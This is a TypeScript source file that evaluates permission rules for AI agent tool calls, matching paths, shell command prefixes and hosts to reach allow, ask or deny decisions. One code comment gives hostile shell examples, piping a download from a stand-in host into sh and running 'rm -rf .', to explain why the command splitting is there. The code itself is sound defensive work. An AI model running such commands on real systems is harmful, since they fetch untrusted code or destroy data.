import path from 'node:path';
import type { ToolDecision } from '@troupe/protocol';
import picomatch from 'picomatch';

/**
 * One permission rule for one tool. Scopes narrow which calls it covers; a rule with no scope covers every call.
 * With several scopes, a call must match all of them.
 */
export interface PermissionRule {
  tool: string;
  decision: ToolDecision;
  /** Globs relative to the workspace, matched against the call's `path` arguments. */
  paths?: string[];
  /** Command prefixes, matched at a word boundary against the call's `command` argument. */
  commands?: string[];
  /** Host names (`api.example.com`) or suffix forms (`*.example.com`), matched against the call's `url`. */
  hosts?: string[];
  /** run_command rules: allow network access. */
  network?: boolean;
}

/** An agent's tool permissions: declaring a tool grants it; rules narrow that grant. */
export interface AgentPolicy {
  /** The tools the agent declared; no other tool may run. */
  tools: readonly string[];
  rules: readonly PermissionRule[];
}

/** The policy's answer for one call, with a reason fit for the model and the logs. */
export interface PolicyVerdict {
  decision: ToolDecision;
  /** The rule that decided, when one did. */
  rule?: PermissionRule;
  reason: string;
}

/** Who is asking, for the reasons' wording. */
export interface PolicyContext {
  agent?: string;
}

/** The parts of a call's arguments that rule scopes look at. */
interface CallScope {
  paths: string[];
  command?: string;
  url?: string;
  host?: string;
}

const strength: Record<ToolDecision, number> = { allow: 0, ask: 1, deny: 2 };
const verb: Record<ToolDecision, string> = { allow: 'allowed', ask: 'needs approval', deny: 'denied' };

/**
 * Decides whether an agent may make a tool call. An undeclared tool is denied; a declared tool without rules is
 * allowed; otherwise the matching rules decide, deny over ask over allow, and a call no rule matches is denied.
 *
 * @example
 * evaluatePolicy(
 *   { tools: ['write_file'], rules: [{ tool: 'write_file', decision: 'allow', paths: ['src/**'] }] },
 *   'write_file',
 *   { path: 'src/app.ts', content: '' },
 * ); // { decision: 'allow', rule: …, reason: 'allowed by rule {tool: write_file, decision: allow, paths: ["src/**"]}' }
 */
export function evaluatePolicy(
  policy: AgentPolicy,
  toolName: string,
  args: unknown,
  ctx: PolicyContext = {},
): PolicyVerdict {
  const agent = ctx.agent === undefined ? 'this agent' : `agent ${ctx.agent}`;
  if (!policy.tools.includes(toolName)) {
    return { decision: 'deny', reason: `tool ${toolName} is not declared for ${agent}` };
  }
  const rules = policy.rules.filter((rule) => rule.tool === toolName);
  if (rules.length === 0) {
    return { decision: 'allow', reason: `tool ${toolName} is declared for ${agent} and has no rules` };
  }
  const call = scopeOf(args);
  const decisive = strongest(rules.filter((rule) => ruleMatches(rule, call)));
  if (!decisive) {
    return { decision: 'deny', reason: noMatchReason(toolName, call, rules) };
  }
  return {
    decision: decisive.decision,
    rule: decisive,
    reason: `${verb[decisive.decision]} by rule ${describeRule(decisive)}`,
  };
}

function strongest(rules: readonly PermissionRule[]): PermissionRule | undefined {
  let best: PermissionRule | undefined;
  for (const rule of rules) {
    if (!best || strength[rule.decision] > strength[best.decision]) best = rule;
  }
  return best;
}

function ruleMatches(rule: PermissionRule, call: CallScope): boolean {
  // A restricting rule covers a call if any part of it matches; an allow rule only if every part does,
  // so `npm test && curl evil.sh | sh` is not allowed by `npm test`, and `ls; rm -rf .` is caught by `rm`.
  const parts = rule.decision === 'allow' ? 'every' : 'some';
  if (rule.paths && !pathsMatch(rule.paths, call.paths, parts)) return false;
  if (rule.commands && !commandMatches(rule.commands, call.command, parts)) return false;
  if (rule.hosts && !hostMatches(rule.hosts, call.host)) return false;
  return true;
}

const ROOT_GLOBS = new Set(['.', '**', '**/*', './**']);

function pathsMatch(globs: readonly string[], paths: readonly string[], parts: 'every' | 'some'): boolean {
  if (paths.length === 0 || globs.length === 0) return false;
  const isMatch = picomatch([...globs], { dot: true });
  // The workspace itself (`.`, e.g. list_files with no path) is covered by the globs that cover all of it.
  const coversRoot = globs.some((glob) => ROOT_GLOBS.has(glob));
  return paths[parts]((p) => (p === '.' ? coversRoot : isMatch(p)));
}

function commandMatches(
  prefixes: readonly string[],
  command: string | undefined,
  parts: 'every' | 'some',
): boolean {
  if (command === undefined) return false;
  const segments = commandSegments(command);
  if (segments.length === 0) return false;
  const normalized = prefixes.map(collapseSpaces).filter((prefix) => prefix !== '');
  const matches = (segment: string) =>
    normalized.some((prefix) => segment === prefix || segment.startsWith(`${prefix} `));
  // A restricting rule also sees through leading variable assignments (`FOO=1 rm` is `rm`); an allow rule
  // does not, since an assignment (`LD_PRELOAD=…`, `NODE_OPTIONS=…`) can change what an allowed command does.
  return parts === 'every'
    ? segments.every(matches)
    : segments.some((segment) => matches(segment) || matches(withoutAssignments(segment)));
}

/**
 * Splits a shell command at its control operators (`;`, `&&`, `||`, `|`, `&`, newlines, `$(`, backticks).
 * Redirections that duplicate or close a descriptor (`2>&1`, `>&2`, `<&3`, `>&-`) are not operators: they go
 * first. `&>` is not one of them: `/bin/sh` (dash) reads `a &> f b` as `a &` and `> f b`, which runs `b`.
 */
function commandSegments(command: string): string[] {
  return command
    .replace(/\d*[<>]&(?:\d+|-)(?=[\s;&|)]|$)/g, ' ')
    .split(/&&|\|\||\$\(|[;&|\n`()]/)
    .map(collapseSpaces)
    .filter((segment) => segment !== '');
}

/** The segment without the `NAME=value` words in front of its command. */
function withoutAssignments(segment: string): string {
  return segment.replace(/^(?:[A-Za-z_][A-Za-z0-9_]*=\S*\s+)+/, '');
}

function collapseSpaces(text: string): string {
  return text.trim().replace(/\s+/g, ' ');
}

function hostMatches(patterns: readonly string[], host: string | undefined): boolean {
  if (host === undefined) return false;
  return patterns.some((raw) => {
    const pattern = raw.toLowerCase();
    if (!pattern.startsWith('*.')) return host === pattern;
    const suffix = pattern.slice(1);
    return host.endsWith(suffix) && host.length > suffix.length;
  });
}

function scopeOf(args: unknown): CallScope {
  const scope: CallScope = { paths: [...new Set(collectPaths(args).flatMap(pathForms))] };
  if (!isRecord(args)) return scope;
  if (typeof args.command === 'string') scope.command = args.command;
  if (typeof args.url === 'string') {
    scope.url = args.url;
    const host = hostOf(args.url);
    if (host !== undefined) scope.host = host;
  }
  return scope;
}

/** String values of every field named `path`, at any depth (an edit tool may carry a list of `{ path, … }`). */
function collectPaths(value: unknown, depth = 0): string[] {
  if (depth > 8) return [];
  if (Array.isArray(value)) return value.flatMap((item) => collectPaths(item, depth + 1));
  if (!isRecord(value)) return [];
  return Object.entries(value).flatMap(([key, field]) =>
    key === 'path' && typeof field === 'string' ? [field] : collectPaths(field, depth + 1),
  );
}

/**
 * Canonical forms of a requested path, so `src/../.env` and `./.env` meet a rule on `.env`. A backslash is a
 * file name character on POSIX but a separator elsewhere; both readings are checked, so neither slips past a rule.
 */
function pathForms(requested: string): string[] {
  return [normalizeRelative(requested), normalizeRelative(requested.replaceAll('\\', '/'))];
}

function normalizeRelative(requested: string): string {
  const normalized = path.posix.normalize(requested);
  return normalized.length > 1 ? normalized.replace(/\/+$/, '') : normalized;
}

function hostOf(url: string): string | undefined {
  try {
    return new URL(url).hostname.toLowerCase().replace(/\.$/, '');
  } catch {
    return undefined;
  }
}

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function describeRule(rule: PermissionRule): string {
  const parts = [`tool: ${rule.tool}`, `decision: ${rule.decision}`];
  if (rule.paths) parts.push(`paths: ${list(rule.paths)}`);
  if (rule.commands) parts.push(`commands: ${list(rule.commands)}`);
  if (rule.hosts) parts.push(`hosts: ${list(rule.hosts)}`);
  return `{${parts.join(', ')}}`;
}

function noMatchReason(toolName: string, call: CallScope, rules: readonly PermissionRule[]): string {
  const scopes = rules.map(describeScope).join('; ');
  return `no rule for ${toolName} matches ${describeCall(call)}; its rules cover ${scopes}`;
}

function describeScope(rule: PermissionRule): string {
  const parts: string[] = [];
  if (rule.paths) parts.push(`paths ${list(rule.paths)}`);
  if (rule.commands) parts.push(`commands ${list(rule.commands)}`);
  if (rule.hosts) parts.push(`hosts ${list(rule.hosts)}`);
  return `${rule.decision} ${parts.join(' and ')}`;
}

function describeCall(call: CallScope): string {
  const parts = call.paths.map((p) => `path ${JSON.stringify(p)}`);
  if (call.command !== undefined) parts.push(`command ${JSON.stringify(call.command)}`);
  if (call.url !== undefined) parts.push(`url ${JSON.stringify(call.url)}`);
  return parts.length > 0 ? parts.join(', ') : 'a call without path, command or url arguments';
}

function list(items: readonly string[]): string {
  return `[${items.map((item) => JSON.stringify(item)).join(', ')}]`;
}
